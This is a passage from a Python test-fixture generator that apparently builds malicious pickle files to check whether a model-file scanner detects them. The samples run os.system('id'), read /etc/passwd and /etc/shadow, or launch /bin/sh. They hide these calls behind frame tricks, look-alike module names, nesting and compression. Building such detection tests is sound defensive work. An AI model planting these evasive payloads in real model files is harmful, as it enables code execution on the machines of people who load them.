    one("bert-tokenizer-file", whole(call("transformers.models.bert.tokenization_bert", "BertTokenizer", "/etc/passwd")))
    one("flair-embeddings", whole(call("flair.embeddings", "WordEmbeddings", "glove")))
    one("flair-corpus", whole(call("flair.datasets.sequence_labeling", "CONLL_03", "/tmp/x")))
    one("gensim-corpus", whole(call("gensim.corpora.mmcorpus", "MmCorpus", "/etc/passwd")))
    one("gensim-sentences", whole(call("gensim.models.word2vec", "PathLineSentences", "/etc")))
    one("gensim-mallet", whole(call("gensim.models.wrappers.ldamallet", "LdaMallet", "/bin/sh", ["x"])))
    one("speechbrain-checkpoints", whole(call("speechbrain.utils.checkpoints", "Checkpointer", "/tmp/x")))
    one("speechbrain-hub", whole(call("speechbrain.lobes.models.huggingface_transformers.huggingface", "HFTransformersInterface", "evil/repo", "/tmp")))
    one("timm-dataset", whole(call("timm.data.dataset", "ImageDataset", "/etc")))
    one("timm-saver", whole(call("timm.utils.checkpoint_saver", "CheckpointSaver", None, None, None, None, None, "x", "/tmp/a", "/tmp/b")))
    one("rabit-tracker", whole(call("xgboost.tracker", "RabitTracker", "10.0.0.1", 4)))
    one("quantile-matrix", whole(call("xgboost.core", "QuantileDMatrix", "/etc/passwd?format=csv")))
    one("cv-booster", whole(call("lightgbm.engine", "CVBooster", "/tmp/x")))
    one("csv-logger", whole(call("lightning.pytorch.loggers.csv_logs", "CSVLogger", "/tmp/x")))
    one("fs-dataset", whole(call("torchvision.models._api", "WeightsEnum", "https://x/w.pth")))
    one("spacy-vectors", whole(call("spacy.vocab", "Vocab", None, None, None, "/tmp/x")))
    one("nltk-tagger", whole(call("nltk.tag.perceptron", "PerceptronTagger", True, "/tmp/x")))
    one("fastai-learner", whole(call("fastai.learner", "Learner", None, None, None, "/tmp/x")))
    one("stata-reader", whole(call("statsmodels.iolib.foreign", "StataReader", "/etc/passwd")))
    one("plain-inst", b"(Vevil.pt\niultralytics.nn.autobackend\nAutoBackend\n.")
    one("plain-obj", b"\x80\x04(" + stack_name("ultralytics.nn.autobackend", "AutoBackend") + text("evil.pt") + b"o.")
    one("plain-computed-argument", whole(call("ultralytics.nn.autobackend", "AutoBackend", call("pathlib", "PosixPath", "evil.pt"))))
    # joblib's old wrappers open the file that the stream names.
    for wrapper in ("NDArrayWrapper", "ZNDArrayWrapper"):
        one(f"joblib-{wrapper}-outside", whole(built(new("joblib.numpy_pickle", wrapper), {"filename": "../../../etc/shadow", "allow_mmap": False, "subclass": glob("numpy", "ndarray")})))
        one(f"joblib-{wrapper}-absolute", whole(built(new("joblib.numpy_pickle_compat", wrapper), {"filename": "/tmp/evil.npy", "subclass": glob("numpy", "ndarray")})))
    one("joblib-array-objects", whole(built(new("joblib.numpy_pickle", "NumpyArrayWrapper"), {
        "subclass": glob("numpy", "ndarray"), "shape": (1,), "order": "C", "dtype": Raw(built(call("numpy", "dtype", "O8", False, True), (3, "|", None, None, None, -1, -1, 63))),
        "allow_mmap": False}) )[:-1] + inner + b".")
    one("joblib-array-then-call", whole(built(new("joblib.numpy_pickle", "NumpyArrayWrapper"), {
        "subclass": glob("numpy", "ndarray"), "shape": (2,), "order": "C", "dtype": Raw(built(call("numpy", "dtype", "f8", False, True), (3, "<", None, None, None, -1, -1, 0))),
        "allow_mmap": True}))[:-1] + b"\0" * 16 + b"0" + call("os", "system", "id") + b".")
    one("joblib-array-size-lies", whole(built(new("joblib.numpy_pickle", "NumpyArrayWrapper"), {
        "subclass": glob("numpy", "ndarray"), "shape": (1 << 40,), "order": "C", "dtype": Raw(built(call("numpy", "dtype", "f8", False, True), (3, "<", None, None, None, -1, -1, 0))),
        "allow_mmap": True}))[:-1] + b"0" + call("os", "system", "id") + b".")
    one("joblib-dtype-text-fields", whole(built(new("joblib.numpy_pickle", "NumpyArrayWrapper"), {
        "subclass": glob("numpy", "ndarray"), "shape": (1,), "order": "C", "dtype": call("numpy", "dtype", "i4,O"), "allow_mmap": False}))[:-1] + inner + b".")
    one("joblib-other-module", whole(built(new("evil.joblib.numpy_pickle", "NumpyArrayWrapper"), {"shape": (100,), "dtype": call("numpy", "dtype", "f8")}))[:-1] + call("os", "system", "id") + b".")


def hidden(add):
    """Streams that break, or that readers take differently, after or before the call."""
    def one(file, raw):
        add("hidden", file, raw, FOUND)

    bang = b"\x80\x04" + call("os", "system", "id")
    one("no-stop.pkl", bang)
    one("bad-opcode.pkl", bang + b"\xff.")
    one("zero-opcode.pkl", bang + b"\0" * 40)
    one("bad-utf8.pkl", bang + b"X\x02\0\0\0\xff\xff.")
    one("bad-length.pkl", bang + b"X\xff\xff\xff\x7fabc")
    one("bad-get.pkl", bang + b"h\x77.")
    one("bad-get-text.pkl", b"cos\nsystem\n(S'id'\ntRg99\n.")
    one("underflow.pkl", bang + b"000000.")
    one("odd-dict.pkl", bang + b"(K\x01d.")
    one("bad-int.pkl", bang + b"Iabc\n.")
    one("bad-float.pkl", bang + b"Fabc\n.")
    one("bad-string.pkl", bang + b"Sabc\n.")
    one("bad-proto.pkl", bang + b"\x80\x7f.")
    one("bad-frame.pkl", bang + b"\x95" + b"\xff" * 8 + b".")
    one("negative-long.pkl", bang + b"\x8b\xff\xff\xff\xff.")
    one("mark-missing.pkl", bang + b"t.")
    one("get-of-mark.pkl", b"\x80\x04(q\0" + call("os", "system", "id") + b".")
    one("put-on-empty.pkl", b"\x80\x04q\0" + call("os", "system", "id") + b".")
    one("dup-on-empty.pkl", b"\x80\x042" + call("os", "system", "id") + b".")
    one("cut-in-call.pkl", (b"\x80\x04" + stack_name("os", "system") + text("id") + b"\x85R"))
    one("cut-before-call.pkl", b"\x80\x04" + stack_name("os", "system") + text("id") + b"\x85")
    one("cut-protocol-0.pkl", b"cos\nsystem\n(S'id'\ntR")
    one("protocol-0-cut-in-line.pkl", b"cos\nsystem\n(S'id'\ntRS'more")
    one("stop-then-second.pkl", b"\x80\x04N." + bang + b".")
    one("stop-then-protocol-0.pkl", b"\x80\x04N.cos\nsystem\n(S'id'\ntR.")
    one("second-behind-padding.pkl", b"\x80\x04N." + b"\0" * 512 + bang + b".")
    one("second-behind-newlines.pkl", b"\x80\x04N.\n\n" + bang + b".")
    one("third-uses-own-memo.pkl", whole({"a": 1}) + b"\x80\x04" + text("x") + b"\x94." + b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x9400h\0h\1\x93" + text("id") + b"\x85R.")
    one("sixth-pickle.pkl", whole(1) * 5 + bang + b".")
    one("two-thousandth.pkl", b"N." * 2000 + b"cos\nsystem\n(S'id'\ntR.")
    one("many-harmless-first.pkl", b"\x80\x04(" + b"".join(call("collections", "OrderedDict") for _ in range(3000)) + call("os", "system", "id") + b"l.")
    one("ten-thousand-names.pkl", b"\x80\x04(" + b"".join(glob("a", f"b{i}") for i in range(10000)) + call("os", "system", "id") + b"l.")
    one("after-a-long-text.pkl", b"\x80\x04" + text("x" * 300000) + b"0" + call("os", "system", "id") + b".")
    one("after-deep-marks.pkl", b"\x80\x04" + b"(" * 5000 + call("os", "system", "id") + b".")
    one("after-deep-tuples.pkl", b"\x80\x04)" + b"\x85" * 20000 + b"0" + call("os", "system", "id") + b".")
    one("billion-laughs.pkl", b"\x80\x04]" + b"2\x86" * 60 + b"0" + call("os", "system", "id") + b".")
    # C unpicklers before 3.13.15 resume inside an argument that runs past its frame; pickletools does not.
    crossing = b"\x8c\x40" + b"A" * 10
    one("frame-crossed.pkl", b"\x80\x04\x95" + u(8, len(crossing)) + crossing + call("os", "system", "id") + b"A" * 100 + b".")
    one("frame-too-short.pkl", b"\x80\x04\x95" + u(8, 3) + b"C\x30" + (call("os", "system", "id") + b".").ljust(0x30, b"N") + b".")
    one("frame-in-frame.pkl", b"\x80\x04\x95" + u(8, 30) + b"\x95" + u(8, 4) + call("os", "system", "id") + b".")
    one("frame-zero.pkl", b"\x80\x04\x95" + u(8, 0) + call("os", "system", "id") + b".")
    one("frame-longer-than-file.pkl", b"\x80\x04\x95" + u(8, 1 << 40) + call("os", "system", "id") + b".")
    one("proto-in-the-middle.pkl", b"\x80\x04N0\x80\x02" + name("os", "system") + b"(X\x02\0\0\0idtR.")
    one("protocol-1-no-mark.bin", b"(lp0\ncos\nsystem\n(S'id'\ntRa.")
    one("starts-with-text.bin", b"S'weights of my model'\n0cos\nsystem\n(S'id'\ntR.")
    one("starts-with-int.bin", b"I1\n0cos\nsystem\n(S'id'\ntR.")
    one("starts-with-float.bin", b"F1.5\n0cos\nsystem\n(S'id'\ntR.")
    one("starts-with-empty-dict.bin", b"}0cos\nsystem\n(S'id'\ntR.")
    one("starts-with-none-many.bin", b"N0" * 5000 + b"cos\nsystem\n(S'id'\ntR.")
    one("starts-with-binfloat.bin", b"GGUF\x03\0\0\0\0" + b"0cos\nsystem\n(S'id'\ntR.")
    one("starts-with-persid.bin", b"Parchive\n0cos\nsystem\n(S'id'\ntR.")
    one("starts-with-unicode-json.bin", b'V{"format": "pt"}\n0cos\nsystem\n(S\'id\'\ntR.')
    one("starts-with-long-text.bin", b"V" + b"a" * 70000 + b"\n0cos\nsystem\n(S'id'\ntR.")
    one("looks-like-python.py", b"S'import torch'\n0cos\nsystem\n(S'id'\ntR.")
    one("named-json.json", bang + b".")
    one("named-png.png", bang + b".")
    one("no-extension", bang + b".")
    one("called-then-broken-protocol-1.bin", b"cbuiltins\neval\n(U\x011tR\xff\xff")
    one("computed-then-broken.bin", b"c_codecs\nencode\n(U\x02bfU\x05rot13tRU\x06system\x93(U\x02idtR\xff")
    one("carriage-return.pkl", b"cos\r\nsystem\r\n(S'id'\r\ntR.")
    one("padding-then-call-in-names.pkl", b"\x80\x04" + text(" os") + text("system") + b"\x93" + text("id") + b"\x85R.")
    one("full-width-names.pkl", b"\x80\x04" + text("ｏｓ") + text("ｓystem") + b"\x93" + text("id") + b"\x85R.")
    one("nul-name.pkl", b"\x80\x04" + text("os\0") + text("system") + b"\x93" + text("id") + b"\x85R.")
    one("surrogate-name.pkl", b"\x80\x04" + text("os\udc80") + text("system") + b"\x93" + text("id") + b"\x85R.")
    one("empty-module.pkl", b"\x80\x04" + text("") + text("system") + b"\x93" + text("id") + b"\x85R.")
    one("empty-name.pkl", b"\x80\x04" + text("os") + text("") + b"\x93" + text("id") + b"\x85R.")
    one("very-long-name.pkl", b"\x80\x04" + text("os." * 3000) + text("system") + b"\x93" + text("id") + b"\x85R.")
    # Pickles in other things.
    inner = bang + b"."
    one("nested-loads.pkl", whole(call("pickle", "loads", inner)))
    one("nested-plain-bytes.pkl", whole({"payload": inner}))
    one("nested-plain-text-latin1.pkl", b"\x80\x02" + name("_codecs", "encode") + text(inner.decode("latin-1")) + text("latin1") + b"\x86R.")
    one("nested-bytearray8.pkl", b"\x80\x05\x96" + u(8, len(inner)) + inner + b".")
    one("nested-twice.pkl", whole({"a": whole({"b": inner})}))
    one("nested-deep.pkl", _nested(inner, 30))
    one("nested-protocol-0.pkl", whole({"a": b"cos\nsystem\n(S'id'\ntR."}))
    one("nested-zip.pkl", whole(call("torch.storage", "_load_from_bytes", zip_file([Member("a/data.pkl", inner)]))))
    one("marshal-in-exec.pkl", whole(call("builtins", "exec", call("marshal", "loads", b"\xe3" + b"\0" * 40))))
    one("base64-exec.pkl", whole(call("builtins", "exec", call("base64", "b64decode", base64.b64encode(b"import os")))))
    for kind, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("zlib", zlib.compress),
                       ("lzma", lambda b: lzma.compress(b, lzma.FORMAT_ALONE)), ("zlib-stored", lambda b: zlib.compress(b, 0))):
        one("packed." + kind, pack(inner))
    one("packed-twice.gz", gzip.compress(bz2.compress(inner)))
    one("packed-thrice.gz", gzip.compress(gzip.compress(lzma.compress(inner))))
    one("two-members.gz", gzip.compress(whole(1)) + gzip.compress(inner))
    one("behind-gzip.gz", gzip.compress(whole(1)) + inner)
    one("gzip-cut.gz", gzip.compress(inner + bytes(range(256)) * 40)[:-30])
    one("gzip-bad-crc.gz", gzip.compress(inner)[:-8] + b"\0" * 8)
    one("gzip-long-name.gz", b"\x1f\x8b\x08\x08\0\0\0\0\0\xff" + b"n" * 5000 + b"\0" + gzip.compress(inner)[10:])
    one("zfile.pkl", b"ZF" + hex(len(inner)).encode().ljust(19) + zlib.compress(inner))
    one("protocol-0-gz", gzip.compress(b"cos\nsystem\n(S'id'\ntR."))


def _nested(inner, times):
    for _ in range(times):
        inner = whole({"a": inner})
    return inner


ALL = (calls, routes, allowed, hidden)
